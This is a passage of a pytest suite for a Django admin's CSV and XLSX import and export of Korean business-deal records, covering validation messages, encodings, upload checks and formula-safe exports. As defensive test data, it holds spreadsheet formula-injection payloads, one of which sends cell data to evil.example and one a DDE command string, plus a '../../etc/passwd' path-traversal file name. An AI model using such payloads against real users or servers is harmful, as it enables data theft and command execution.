"""Import and export in the admin (deals/resources.py): files go through the real preview and
confirm views; every row arrives as a draft with its history, or nothing is written; problems
name the row and the column; Korean survives UTF-8, CP949 and XLSX both ways; uploads are
checked for size and type; exports keep Korean intact."""

import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal
from urllib.parse import urlencode

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from deals import models, resources, services, spreadsheets
from tests import factories

pytestmark = pytest.mark.django_db

DEAL_HEADER = (
    "slug,title,title_ko,kind,product,product_ko,product_category,quantity_qualifier,quantity,"
    "quantity_unit,disclosure,amount,currency,suppliers,buyers,sources,status,status_on,"
    "publication\n"
)


@pytest.fixture
def companies(db):
    return {
        "nvidia": factories.CompanyFactory(slug="nvidia", name="Nvidia", name_ko="엔비디아"),
        "samsung": factories.CompanyFactory(
            slug="samsung-electronics", name="Samsung Electronics", name_ko="삼성전자"
        ),
        "sk": factories.CompanyFactory(slug="sk-group", name="SK Group", name_ko="SK그룹"),
    }


def _deals_csv(*rows: str) -> str:
    return DEAL_HEADER + "".join(row + "\n" for row in rows)


GOOD_ROWS = (
    "nvidia-samsung-blackwell,Nvidia to supply Samsung,엔비디아 삼성에 블랙웰 공급,"
    'supply_contract,Blackwell GPUs,블랙웰 GPU,gpu,up_to,"50,000",gpus,undisclosed,,,'
    "nvidia,samsung-electronics,https://news.example.kr/articles/1,announced,2025-10-31,"
    "published",
    ",Nvidia to supply SK,엔비디아 SK에 GPU 공급,공급 계약,,,,,,,Undisclosed,,,nvidia,"
    "sk-group,https://news.example.kr/articles/1; HTTPS://www.newsis.com/view?id=NISX2025,,,",
)


def _import_url(model: str) -> str:
    return reverse(f"admin:deals_{model}_import")


def _preview(client, model, name, content, **extra):
    """The first step: upload, dry run, preview (or problems)."""
    if isinstance(content, str):
        content = content.encode()
    upload = SimpleUploadedFile(name, content)
    return client.post(_import_url(model), {"import_file": upload, "resource": "0"}, **extra)


def _confirm(client, model, preview, **extra):
    """The second step: confirm the previewed file, as the page's hidden form does."""
    form = preview.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    return client.post(reverse(f"admin:deals_{model}_process_import"), data, **extra)


def _problems(response) -> list[str]:
    return [str(p) for p in response.context.get("problems") or []]


def _counts():
    """Rows of every model an import may write, with their history."""
    tables = [
        models.Deal,
        models.DealParty,
        models.DealEvent,
        models.Source,
        models.Company,
        models.Meeting,
        models.Project,
    ]
    return {m.__name__: (m.objects.count(), m.history.count()) for m in tables}


# --- The clean path ---------------------------------------------------------------------------


def test_clean_csv_of_deals_is_previewed_then_imported_as_drafts(editor_client, editor, companies):
    existing = factories.SourceFactory(url="https://news.example.kr/articles/1")
    before = _counts()

    preview = _preview(editor_client, "deal", "거래 목록.csv", _deals_csv(*GOOD_ROWS))

    assert preview.status_code == 200
    assert _problems(preview) == []
    assert preview.context["confirm_form"] is not None
    content = preview.content.decode()
    assert "엔비디아 삼성에 블랙웰 공급" in content
    assert "엔비디아 SK에 GPU 공급" in content
    assert _counts() == before  # the preview wrote nothing

    done = _confirm(editor_client, "deal", preview)

    assert done.status_code == 302
    deals = {d.title_ko: d for d in models.Deal.objects.all()}
    assert set(deals) == {"엔비디아 삼성에 블랙웰 공급", "엔비디아 SK에 GPU 공급"}
    first = deals["엔비디아 삼성에 블랙웰 공급"]
    second = deals["엔비디아 SK에 GPU 공급"]
    # The file said "published"; imports always arrive as drafts.
    assert {d.publication for d in deals.values()} == {models.Publication.DRAFT}
    assert first.published_at is None
    assert first.slug == "nvidia-samsung-blackwell"
    assert second.slug == "nvidia-to-supply-sk"  # made from the English title
    assert first.quantity == Decimal("50000")
    assert second.kind == models.DealKind.SUPPLY_CONTRACT  # from the Korean label
    parties = {(p.company.slug, p.role) for p in first.parties.select_related("company")}
    assert parties == {("nvidia", "supplier"), ("samsung-electronics", "buyer")}
    # The status imports as a sourced event, and the derived fields follow.
    assert first.status == models.DealStatus.ANNOUNCED
    assert first.announced_on == dt.date(2025, 10, 31)
    assert first.events.get().source == existing
    # An existing source is linked by its URL; an unknown one is created, as a draft.
    assert list(first.sources.all()) == [existing]
    created = models.Source.objects.get(url="https://www.newsis.com/view?id=NISX2025")
    assert created.publication == models.Publication.DRAFT
    assert set(second.sources.all()) == {existing, created}


def test_every_imported_row_has_history_with_the_editor_and_the_file(
    editor_client, editor, companies
):
    preview = _preview(editor_client, "deal", "거래 목록.csv", _deals_csv(*GOOD_ROWS))
    _confirm(editor_client, "deal", preview)

    for deal in models.Deal.objects.all():
        history = list(deal.history.all())
        assert history, deal
        assert {h.history_user for h in history} == {editor}
        assert {h.history_change_reason for h in history} == {"Imported from 거래 목록.csv"}
    for party in models.DealParty.objects.all():
        assert party.history.get().history_change_reason == "Imported from 거래 목록.csv"
    created = models.Source.objects.get(url__contains="newsis")
    assert created.history.get().history_user == editor
    # The admin's log lists the import too.
    assert editor.logentry_set.count() == 2


def test_success_message_says_drafts(editor_client, companies):
    preview = _preview(editor_client, "deal", "deals.csv", _deals_csv(*GOOD_ROWS))
    done = _confirm(editor_client, "deal", preview, follow=True)
    assert "Imported 2 deals as drafts." in done.content.decode()


# --- Bad rows: named, and nothing written --------------------------------------------------


BAD_ROWS = {
    "supplier is buyer": (
        ",Self deal,자기 거래,mou,,,,,,,undisclosed,,,nvidia,nvidia,,,,",
        "buyers",
        "cannot be both supplier and buyer",
    ),
    "unknown company": (
        ",Ghost deal,유령 거래,mou,,,,,,,undisclosed,,,nvidia,no-such-company,,,,",
        "buyers",
        "no-such-company",
    ),
    "impossible date": (
        ",Leap deal,윤년 거래,mou,,,,,,,undisclosed,,,,,,announced,2025-02-30,",
        "status_on",
        "2025-02-30",
    ),
    "negative quantity": (
        ",Negative,음수,mou,,,,,-5,gpus,undisclosed,,,,,,,,",
        "quantity",
        "negative",
    ),
    "huge quantity": (
        ",Huge,거대,mou,,,,,1e30,gpus,undisclosed,,,,,,,,",
        "quantity",
        "digits",
    ),
    "not a number": (
        ",Words,글자,mou,,,,,많이,gpus,undisclosed,,,,,,,,",
        "quantity",
        "많이",
    ),
    "unknown kind": (
        ",Odd kind,이상한 종류,handshake,,,,,,,undisclosed,,,,,,,,",
        "kind",
        "handshake",
    ),
    "amount without currency": (
        ",No currency,통화 없음,mou,,,,,,,disclosed,1000,,,,,,,",
        "currency",
        "currency",
    ),
    "bad source url": (
        ",Bad source,잘못된 출처,mou,,,,,,,undisclosed,,,,,ftp://example.kr/x,,,",
        "sources",
        "ftp://example.kr/x",
    ),
    "no title at all": (
        ",,,mou,,,,,,,undisclosed,,,,,,,,",
        "title",
        "English or in Korean",
    ),
}


@pytest.mark.parametrize("case", BAD_ROWS)
def test_one_bad_row_is_named_by_row_and_column_and_nothing_is_written(
    editor_client, companies, case
):
    bad_row, column, words = BAD_ROWS[case]
    before = _counts()

    # Row 1 is the header, rows 2 and 3 are good, row 4 is bad.
    preview = _preview(editor_client, "deal", "deals.csv", _deals_csv(*GOOD_ROWS, bad_row))

    assert preview.status_code == 200
    assert preview.context.get("confirm_form") is None
    problems = _problems(preview)
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"Row 4, column “{column}”:"), problems
    assert words in problems[0]
    assert problems[0] in preview.content.decode().replace("&quot;", '"')
    assert _counts() == before


def test_problems_read_in_korean_for_a_korean_reader(companies):
    # The admin's pages are English-only today (the site's LocaleMiddleware gives unprefixed
    # paths the default language), so the catalog is checked on the resource itself.
    row = ",Self deal,자기 거래,mou,,,,,,,undisclosed,,,nvidia,nvidia,,,,"
    dataset = spreadsheets.CSV().create_dataset(_deals_csv(row).encode("cp949"))
    with translation.override("ko"):
        result = resources.DealResource().import_data(dataset, dry_run=True, file_name="x.csv")
        [problem] = resources.import_problems(result)
    assert problem.startswith("2행, “buyers” 열:"), problem
    assert "같은 거래의 공급사이자 구매사일 수 없습니다" in problem


def test_the_same_slug_twice_in_a_file_names_the_other_row(editor_client, companies):
    rows = (",Twin,쌍둥이 1,mou,,,,,,,,,,,,,,,", ",Twin,쌍둥이 2,mou,,,,,,,,,,,,,,,")
    preview = _preview(editor_client, "deal", "deals.csv", _deals_csv(*rows))
    # Generated slugs never collide; a slug written twice does.
    assert _problems(preview) == []
    rows = ("twin,Twin,쌍둥이 1,mou,,,,,,,,,,,,,,,", "twin,Twin,쌍둥이 2,mou,,,,,,,,,,,,,,,")
    preview = _preview(editor_client, "deal", "deals.csv", _deals_csv(*rows))
    assert _problems(preview) == [
        "Row 3, column “slug”: The slug “twin” is also in row 2 of this file."
    ]


def test_an_existing_slug_is_refused_instead_of_overwriting(editor_client, companies):
    published = factories.make_deal(slug="already-here", title="Published deal")
    row = "already-here,Overwrite attempt,덮어쓰기,mou,,,,,,,undisclosed,,,,,,,,draft"
    preview = _preview(editor_client, "deal", "deals.csv", _deals_csv(row))
    [problem] = _problems(preview)
    assert problem.startswith("Row 2, column “slug”: A deal with the slug “already-here”")
    published.refresh_from_db()
    assert published.title == "Published deal"
    assert published.publication == models.Publication.PUBLISHED


def test_unknown_column_is_named(editor_client, companies):
    content = "title,kind,supplier\nTypo,mou,nvidia\n"
    preview = _preview(editor_client, "deal", "deals.csv", content)
    [problem] = _problems(preview)
    assert problem.startswith("Unknown columns: supplier.")
    assert "suppliers" in problem
    assert not models.Deal.objects.exists()


def test_blank_lines_are_skipped_not_reported(editor_client, companies):
    content = _deals_csv(GOOD_ROWS[0], ",,,,,,,,,,,,,,,,,,", GOOD_ROWS[1])
    preview = _preview(editor_client, "deal", "deals.csv", content)
    assert _problems(preview) == []
    _confirm(editor_client, "deal", preview)
    assert models.Deal.objects.count() == 2


def test_rows_keep_their_spreadsheet_numbers_past_a_blank_line(editor_client, companies):
    bad = ",Ghost deal,유령 거래,mou,,,,,,,undisclosed,,,nvidia,no-such-company,,,,"
    content = DEAL_HEADER + GOOD_ROWS[0] + "\n\n" + bad + "\n"
    preview = _preview(editor_client, "deal", "deals.csv", content)
    assert [p.split(",")[0] for p in _problems(preview)] == ["Row 4"]


def test_an_unquoted_comma_is_named_by_row(editor_client, companies):
    # Korean titles often list companies with commas: 삼성, SK 공급.
    content = "title,title_ko,kind\nFine,좋음,mou\nSupply,삼성, SK 공급,mou\n"
    preview = _preview(editor_client, "deal", "deals.csv", content)
    [error] = preview.context["form"].errors["import_file"]
    assert error == (
        "Row 3 has 4 cells, more than the 3 columns the first row names. A cell that holds a "
        "comma needs quotes around it."
    )
    assert not models.Deal.objects.exists()


def test_a_row_that_turns_bad_after_the_preview_rolls_back_the_whole_import(editor_client):
    content = "slug,name,name_ko,kind\nhanwha,Hanwha,한화,conglomerate\nlg,LG,엘지,conglomerate\n"
    preview = _preview(editor_client, "company", "회사.csv", content)
    assert _problems(preview) == []
    # Someone adds a company with the second row's slug before the editor confirms.
    factories.CompanyFactory(slug="lg", name="LG Electronics")
    before = _counts()

    done = _confirm(editor_client, "company", preview, follow=True)

    text = done.content.decode()
    assert "Nothing was imported." in text
    assert "Row 3, column “slug”" in text
    assert not models.Company.objects.filter(slug="hanwha").exists()
    assert _counts() == before


# --- Encodings and spreadsheets --------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp949", "euc-kr"])
def test_korean_csv_imports_in_utf8_with_or_without_bom_and_in_cp949(
    editor_client, companies, encoding
):
    content = (
        "slug,name,name_ko,kind,country,parent,description_ko\n"
        'naver,Naver,네이버,인터넷 플랫폼,대한민국,,"검색, 클라우드"\n'
        'hyundai-motor,,현대자동차,automaker,kr,,"현대차그룹의 완성차 회사"\n'
    ).encode(encoding)

    preview = _preview(editor_client, "company", "회사.csv", content)
    assert _problems(preview) == []
    _confirm(editor_client, "company", preview)

    naver = models.Company.objects.get(slug="naver")
    assert naver.name_ko == "네이버"
    assert naver.kind == models.CompanyKind.INTERNET_PLATFORM
    assert naver.country.code == "KR"
    assert naver.description_ko == "검색, 클라우드"
    assert models.Company.objects.get(slug="hyundai-motor").name_ko == "현대자동차"


def test_csv_that_is_neither_utf8_nor_cp949_is_refused_in_words(editor_client):
    content = b"slug,name,kind\nx,\xff\xfe\xff,other\n"  # bytes neither encoding allows
    preview = _preview(editor_client, "company", "회사.csv", content)
    errors = preview.context["form"].errors["import_file"]
    assert "neither UTF-8 nor Korean Windows text" in errors[0]


def _xlsx(rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_xlsx_of_projects_imports_with_typed_cells(editor_client):
    content = _xlsx(
        [
            [
                "slug",
                "name",
                "name_ko",
                "kind",
                "status",
                "city_ko",
                "country",
                "capacity_mw",
                "gpu_count",
                "start_date",
                "target_date",
                "disclosure",
                "amount",
                "currency",
                "publication",
            ],
            [
                "ulsan-ai-dc",
                "Ulsan AI data center",
                "울산 AI 데이터센터",
                "ai_data_center",
                "planned",
                "울산",
                "KR",
                103.5,
                60000,
                dt.datetime(2025, 9, 1),
                "2027.12.31",
                "disclosed",
                7000000000000,
                "KRW",
                "published",
            ],
            [
                None,
                None,
                "국가 AI 컴퓨팅 센터",
                "sovereign_ai",
                None,
                None,
                None,
                None,
                None,
                None,
                None,
                None,
                None,
                None,
                None,
            ],
        ]
    )

    preview = _preview(editor_client, "project", "프로젝트.xlsx", content)
    assert _problems(preview) == []
    _confirm(editor_client, "project", preview)

    ulsan = models.Project.objects.get(slug="ulsan-ai-dc")
    assert ulsan.name_ko == "울산 AI 데이터센터"
    assert ulsan.capacity_mw == Decimal("103.5")
    assert ulsan.gpu_count == 60000
    assert ulsan.start_date == dt.date(2025, 9, 1)
    assert ulsan.target_date == dt.date(2027, 12, 31)
    assert ulsan.amount == Decimal("7000000000000")
    assert ulsan.publication == models.Publication.DRAFT
    korean_only = models.Project.objects.get(name_ko="국가 AI 컴퓨팅 센터")
    assert korean_only.slug == "project"  # no English name to make it from
    assert korean_only.history.get().history_change_reason == "Imported from 프로젝트.xlsx"


def test_xlsx_bad_cell_is_named(editor_client):
    content = _xlsx(
        [
            ["name", "kind", "gpu_count", "start_date", "target_date"],
            ["Fine", "ai_factory", 10, "2025-01-01", None],
            ["Half GPU", "ai_factory", 1.5, "2025-01-01", "2024-01-01"],
        ]
    )
    preview = _preview(editor_client, "project", "p.xlsx", content)
    problems = _problems(preview)
    assert "Row 3, column “gpu_count”: “1.5” is not a whole number." in problems
    assert any(p.startswith("Row 3, column “target_date”:") for p in problems), problems
    assert not models.Project.objects.exists()


def test_xlsx_rows_keep_their_numbers_past_a_blank_row(editor_client):
    content = _xlsx([["name", "kind"], ["Fine", "ai_factory"], [None, None], ["Odd", "castle"]])
    preview = _preview(editor_client, "project", "p.xlsx", content)
    assert _problems(preview) == [
        "Row 4, column “kind”: “castle” is not one of: ai_data_center, ai_factory, "
        "sovereign_ai, infrastructure."
    ]


def test_meeting_times_are_read_in_the_rows_time_zone(editor_client):
    content = (
        "title,title_ko,kind,starts_at,ends_at,timezone,time_known\n"
        "APEC CEO dinner,APEC CEO 만찬,dinner,2025-10-30 19:30,2025-10-30 22:00,Asia/Seoul,예\n"
        "GTC keynote,GTC 기조연설,conference,2025-03-18T10:00-07:00,,America/Los_Angeles,1\n"
    )
    preview = _preview(editor_client, "meeting", "회동.csv", content)
    assert _problems(preview) == []
    _confirm(editor_client, "meeting", preview)

    dinner = models.Meeting.objects.get(title_ko="APEC CEO 만찬")
    assert dinner.starts_at == dt.datetime(2025, 10, 30, 10, 30, tzinfo=dt.UTC)
    assert dinner.time_known is True
    keynote = models.Meeting.objects.get(title="GTC keynote")
    assert keynote.starts_at == dt.datetime(2025, 3, 18, 17, 0, tzinfo=dt.UTC)


def test_meeting_with_unknown_time_zone_and_bad_boolean_is_refused(editor_client):
    content = (
        "title,kind,starts_at,timezone,time_known\n"
        "Dinner,dinner,2025-10-30 19:30,Seoul/Korea,maybe\n"
    )
    preview = _preview(editor_client, "meeting", "m.csv", content)
    problems = _problems(preview)
    assert any(p.startswith("Row 2, column “timezone”:") for p in problems), problems
    assert "Row 2, column “time_known”: “maybe” is not yes or no." in problems
    assert not models.Meeting.objects.exists()


# --- Uploads checked before anything is read -----------------------------------------------


def test_oversize_upload_is_refused(editor_client, settings):
    settings.IMPORT_MAX_BYTES = 100
    content = _deals_csv(*GOOD_ROWS)
    preview = _preview(editor_client, "deal", "deals.csv", content)
    [error] = preview.context["form"].errors["import_file"]
    assert error.startswith("This file is ")
    assert "files up to 100\xa0bytes can be imported" in error
    assert preview.context.get("confirm_form") is None


def test_too_many_rows_are_refused_before_any_is_checked(editor_client, settings):
    settings.IMPORT_MAX_ROWS = 2
    content = "name,kind\n" + "".join(f"Company {n},other\n" for n in range(3))
    preview = _preview(editor_client, "company", "c.csv", content)
    assert _problems(preview) == [
        "This file has 3 rows; up to 2 can be imported at once. Split it into smaller files."
    ]
    assert not models.Company.objects.exists()


def _zip(names) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("deals.txt", b"title,kind\nx,mou\n", "Only CSV (.csv) and Excel (.xlsx) files"),
        ("deals.exe", b"MZ\x90\x00", "Only CSV (.csv) and Excel (.xlsx) files"),
        ("deals", b"title,kind\nx,mou\n", "Only CSV (.csv) and Excel (.xlsx) files"),
        ("deals.csv", b"\x89PNG\r\n\x1a\n\x00\x00", "named .csv but is not text"),
        (
            "deals.csv",
            _zip(["[Content_Types].xml", "xl/workbook.xml"]),
            "named .csv but is not text",
        ),
        ("deals.xlsx", b"title,kind\nx,mou\n", "named .xlsx but is not an Excel workbook"),
        ("deals.xlsx", _zip(["word/document.xml"]), "named .xlsx but is not an Excel workbook"),
    ],
)
def test_wrong_type_upload_is_refused(editor_client, name, content, words):
    preview = _preview(editor_client, "deal", name, content)
    [error] = preview.context["form"].errors["import_file"]
    assert words in error
    assert not models.Deal.objects.exists()


def test_damaged_workbook_is_refused_in_words(editor_client):
    content = _zip(["[Content_Types].xml", "xl/workbook.xml"])
    preview = _preview(editor_client, "deal", "deals.xlsx", content)
    [error] = preview.context["form"].errors["import_file"]
    assert error == "This Excel file cannot be read; save it again as .xlsx."


def test_confirm_refuses_a_file_name_it_did_not_make(editor_client, companies):
    url = reverse("admin:deals_deal_process_import")
    data = {
        "import_file_name": "../../etc/passwd",
        "original_file_name": "x.csv",
        "format": "0",
        "resource": "0",
    }
    done = editor_client.post(url, data, follow=True)
    assert "This import cannot be found. Upload the file again." in done.content.decode()
    assert not models.Deal.objects.exists()


def test_confirm_after_the_held_file_expired_asks_for_it_again(editor_client, companies):
    preview = _preview(editor_client, "deal", "deals.csv", _deals_csv(*GOOD_ROWS))
    cache.clear()  # an hour later, or a restart, or another worker's local cache
    done = _confirm(editor_client, "deal", preview, follow=True)
    assert "The uploaded file is no longer held" in done.content.decode()
    assert not models.Deal.objects.exists()


def test_import_needs_add_permission_and_export_view_permission(client, django_user_model):
    reader = django_user_model.objects.create_user(username="독자", password="x", is_staff=True)
    reader.user_permissions.add(Permission.objects.get(codename="view_deal"))
    client.force_login(reader)
    assert client.get(_import_url("deal")).status_code == 403
    assert client.get(reverse("admin:deals_deal_export")).status_code == 200
    assert client.get(reverse("admin:deals_company_export")).status_code == 403


def test_import_page_explains_the_file(editor_client):
    page = editor_client.get(_import_url("deal"))
    assert page.status_code == 200
    text = page.content.decode()
    assert "Every row becomes a new draft" in text
    # The columns an import reads are listed; those the system sets are not.
    assert (
        "suppliers, buyers, partners, investors, governments, sources, timeline, status, status_on"
    ) in text
    assert "usd_amount" not in text
    # How a timeline is written, with a step's own source.
    assert "2025-10-29 reported [https://www.yna.co.kr/view/AKR20251029]; 2025-10-31" in text
    company_page = editor_client.get(_import_url("company")).content.decode()
    assert "2025-10-29 reported" not in company_page


def test_changelists_offer_import_and_export(editor_client):
    for model in ("deal", "company", "meeting", "project"):
        page = editor_client.get(reverse(f"admin:deals_{model}_changelist")).content.decode()
        assert _import_url(model) in page
        assert reverse(f"admin:deals_{model}_export") in page
    for model in ("source", "exchangerate", "person"):
        page = editor_client.get(reverse(f"admin:deals_{model}_changelist")).content.decode()
        assert reverse(f"admin:deals_{model}_export") in page
        assert "/import/" not in page


# --- Export ------------------------------------------------------------------------------------


def _export(client, model, file_format: int, **query):
    """POST the export form as the page does, with every field ticked."""
    model_admin = admin.site._registry[getattr(models, model)]
    [resource] = model_admin.get_export_resource_classes(None)
    data = {"format": str(file_format), "resource": "0"}
    for field in resource().get_export_order():
        data[f"{resource.__name__.lower()}_{field}"] = "on"
    url = reverse(f"admin:deals_{model.lower()}_export")
    if query:
        url += "?" + urlencode(query)
    return client.post(url, data)


@pytest.fixture
def korean_deal(db):
    return factories.make_deal(
        slug="apec-blackwell",
        title="Blackwell for Korea",
        title_ko="한국에 블랙웰 26만 장",
        quantity=Decimal("260000"),
    )


def test_export_csv_has_a_bom_and_korean_text(editor_client, korean_deal):
    response = _export(editor_client, "Deal", 0)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    assert "한국에 블랙웰 26만 장" in text
    header, row = text.splitlines()[:2]
    assert header.startswith("slug,title,title_ko,kind")
    supplier = korean_deal.parties.get(role="supplier").company.slug
    assert supplier in row
    assert ",260000," in row
    assert ",published," in row


def test_export_xlsx_has_korean_text(editor_client, korean_deal):
    response = _export(editor_client, "Deal", 1)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "한국에 블랙웰 26만 장" in values


def test_export_json_has_korean_text_unescaped(editor_client, korean_deal):
    response = _export(editor_client, "Deal", 2)
    assert response.status_code == 200
    assert "한국에 블랙웰 26만 장".encode() in response.content
    [row] = json.loads(response.content)
    assert row["title_ko"] == "한국에 블랙웰 26만 장"
    assert row["quantity"] == "260000"


@pytest.mark.parametrize(
    ("model", "factory", "korean"),
    [
        ("Company", factories.CompanyFactory, "name_ko"),
        ("Person", factories.PersonFactory, "name_ko"),
        ("Source", factories.SourceFactory, "title_ko"),
        ("Meeting", factories.MeetingFactory, "title_ko"),
        ("Project", factories.ProjectFactory, "name_ko"),
        ("ExchangeRate", factories.ExchangeRateFactory, "note_ko"),
    ],
)
def test_every_record_list_exports(editor_client, model, factory, korean):
    record = factory(**{korean: "한글 이름 “따옴표”, 쉼표"})
    for file_format in (0, 1, 2):
        response = _export(editor_client, model, file_format)
        assert response.status_code == 200, (model, file_format)
    text = _export(editor_client, model, 0).content.decode("utf-8-sig")
    assert record.slug in text
    assert '"한글 이름 “따옴표”, 쉼표"' in text


def test_export_follows_the_lists_search(editor_client, korean_deal):
    factories.make_deal(slug="other-deal", title="Other", title_ko="다른 거래")
    text = _export(editor_client, "Deal", 0, q="26만").content.decode("utf-8-sig")
    assert "apec-blackwell" in text
    assert "other-deal" not in text


def _export_and_import_a_copy(client, slug: str) -> models.Deal:
    """Export the deals as CSV, import the file again with `slug` renamed, return the copy."""
    text = _export(client, "Deal", 0).content.decode("utf-8-sig")
    copied = text.replace(slug, f"{slug}-copy")
    preview = _preview(client, "deal", "export.csv", copied.encode("utf-8-sig"))
    assert _problems(preview) == []
    _confirm(client, "deal", preview)
    return models.Deal.objects.get(slug=f"{slug}-copy")


def test_exported_deals_import_again_as_new_drafts(editor_client, korean_deal):
    copy = _export_and_import_a_copy(editor_client, "apec-blackwell")
    assert copy.publication == models.Publication.DRAFT
    assert copy.title_ko == "한국에 블랙웰 26만 장"
    assert {(p.company_id, p.role) for p in copy.parties.all()} == {
        (p.company_id, p.role) for p in korean_deal.parties.all()
    }
    assert copy.status == korean_deal.status
    assert copy.announced_on == korean_deal.announced_on


@pytest.mark.parametrize("rows", [1, 12])
def test_deal_export_runs_a_fixed_number_of_queries(
    editor_client, django_assert_max_num_queries, rows
):
    for number in range(rows):
        factories.make_deal(slug=f"deal-{number}", project=factories.ProjectFactory())
    # Session, user, the list's query, and one per prefetched relation (parties, sources,
    # events): not one per row.
    with django_assert_max_num_queries(10):
        response = _export(editor_client, "Deal", 0)
    assert response.status_code == 200
    assert len(response.content.decode("utf-8-sig").splitlines()) == rows + 1


# --- Cells that would run as formulas ---------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"클릭")',
    "title_ko": "+삼성전자 공급",
    "summary": "@SUM(A1:A9)",
    "summary_ko": "-2+3 계산",
    "product": "\t=cmd|' /C calc'!A0",
}


@pytest.fixture
def formula_deal(db):
    return factories.make_deal(slug="formula-deal", **FORMULAS)


def test_exported_csv_cells_cannot_run_as_formulas(editor_client, formula_deal):
    text = _export(editor_client, "Deal", 0).content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    for column in FORMULAS:
        stored = getattr(models.Deal.objects.get(pk=formula_deal.pk), column)
        assert row[column] == "'" + stored, column
    assert row["slug"] == "formula-deal"


def test_exported_xlsx_holds_text_not_formulas(editor_client, formula_deal):
    sheet = openpyxl.load_workbook(io.BytesIO(_export(editor_client, "Deal", 1).content)).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column in FORMULAS:
        assert cells[column].data_type == "s", column
        assert cells[column].value.startswith("'"), column


def test_guarded_cells_import_back_to_the_same_text(editor_client, formula_deal):
    copy = _export_and_import_a_copy(editor_client, "formula-deal")
    original = models.Deal.objects.get(pk=formula_deal.pk)
    for column in FORMULAS:
        # Import trims every text cell, as the admin's forms do (the tab in front of product).
        assert getattr(copy, column) == getattr(original, column).strip(), column
    assert copy.product == "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("@인용", "'@인용"),
        ("-5", "-5"),  # a plain number is not a formula
        ("+3.25", "+3.25"),
        ("-5 USD", "'-5 USD"),
        ("삼성=1", "삼성=1"),
        ("", ""),
        (260000, 260000),
        (None, None),
    ],
)
def test_safe_cell(value, cell):
    assert spreadsheets.safe_cell(value) == cell
    if isinstance(value, str):
        assert spreadsheets.text_of(cell) == value.strip()


# --- A deal's timeline in one cell --------------------------------------------------------------

TIMELINE_HEADER = "kind,title,title_ko,suppliers,buyers,sources,timeline,status,status_on\n"


def _timeline_csv(*rows: str) -> bytes:
    rows = "".join(f"supply_contract,{row}\n" for row in rows)
    return (TIMELINE_HEADER + rows).encode("utf-8-sig")


def _import_timeline_row(client, row: str, *, title_ko: str) -> models.Deal:
    """Import one deal row of a timeline file without problems; the deal it made."""
    preview = _preview(client, "deal", "timeline.csv", _timeline_csv(row))
    assert _problems(preview) == []
    _confirm(client, "deal", preview)
    return models.Deal.objects.get(title_ko=title_ko)


def test_a_timeline_imports_as_sourced_steps_with_their_precision(editor_client, companies):
    source = factories.SourceFactory(url="https://news.example.kr/articles/7")
    row = (
        "Nvidia and Samsung,엔비디아·삼성 블랙웰,nvidia,samsung-electronics,"
        "https://news.example.kr/articles/7,"
        '"2025 소문; 2025-Q3 rumored\n2025-10 보도;2025-10-31 Announced",signed,2025-11-03'
    )
    deal = _import_timeline_row(editor_client, row, title_ko="엔비디아·삼성 블랙웰")
    steps = [(e.date, e.date_precision, e.status, e.source) for e in deal.events.all()]
    assert steps == [
        (dt.date(2025, 1, 1), "year", "rumored", source),
        (dt.date(2025, 7, 1), "quarter", "rumored", source),
        (dt.date(2025, 10, 1), "month", "reported", source),
        (dt.date(2025, 10, 31), "day", "announced", source),
        (dt.date(2025, 11, 3), "day", "signed", source),  # from status and status_on
    ]
    # The derived fields follow the whole timeline, as in the admin.
    assert (deal.status, deal.status_on, deal.announced_on) == (
        "signed",
        dt.date(2025, 11, 3),
        dt.date(2025, 10, 31),
    )


def test_each_timeline_step_can_name_its_own_source(editor_client, companies):
    first = factories.SourceFactory(url="https://news.example.kr/articles/7")
    wire = factories.SourceFactory(slug="yonhap-0314", url="")  # not in the row's sources
    row = (
        "Own sources,단계별 출처,nvidia,samsung-electronics,"
        '"https://news.example.kr/articles/7; https://new.example.com/a?id=1",'
        '"2025-Q3 소문 [ yonhap-0314 ]; 2025-10 보도 [HTTPS://new.example.com/a?id=1];'
        ' 2025-10-31 announced; 2025-10-31 발표 [https://news.example.kr/articles/7]",'
        "signed,2025-11-03"
    )
    deal = _import_timeline_row(editor_client, row, title_ko="단계별 출처")
    made = models.Source.objects.get(url="https://new.example.com/a?id=1")  # made once
    assert {s.pk for s in deal.sources.all()} == {first.pk, made.pk}
    steps = [(e.date, e.status, e.source) for e in deal.events.all()]
    assert steps == [
        (dt.date(2025, 7, 1), "rumored", wire),
        (dt.date(2025, 10, 1), "reported", made),
        (dt.date(2025, 10, 31), "announced", first),  # given twice: the one naming a source
        (dt.date(2025, 11, 3), "signed", first),  # status and status_on: the first source
    ]


def test_a_step_given_twice_is_recorded_once(editor_client, companies):
    row = "Twice,두 번,nvidia,sk-group,,2025-10-31 announced; 2025-10-31 발표,announced,2025-10-31"
    preview = _preview(editor_client, "deal", "twice.csv", _timeline_csv(row))
    assert _problems(preview) == []
    _confirm(editor_client, "deal", preview)
    assert models.Deal.objects.get(title="Twice").events.count() == 1


BAD_TIMELINES = {
    "no such day": ("2025-02-30 signed", "there is no such date"),
    "no such month": ("2025-13 signed", "there is no such date"),
    "no date": ("signed", "write the date"),
    "no status": ("2025-10-31", "write the date"),
    "unknown status": ("2025-10-31 체결예정", "체결예정"),
    "a date with slashes": ("2025/10/31 signed", "write the date"),
    "an unknown source": (
